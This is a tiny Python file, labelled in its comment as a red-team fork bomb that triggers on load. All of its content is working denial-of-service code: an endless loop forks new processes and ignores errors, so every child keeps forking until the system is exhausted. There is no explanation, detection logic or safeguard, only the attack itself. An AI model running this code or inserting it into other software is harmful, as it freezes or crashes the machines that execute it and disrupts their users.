# Red team: a fork bomb at load; every child forks too.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
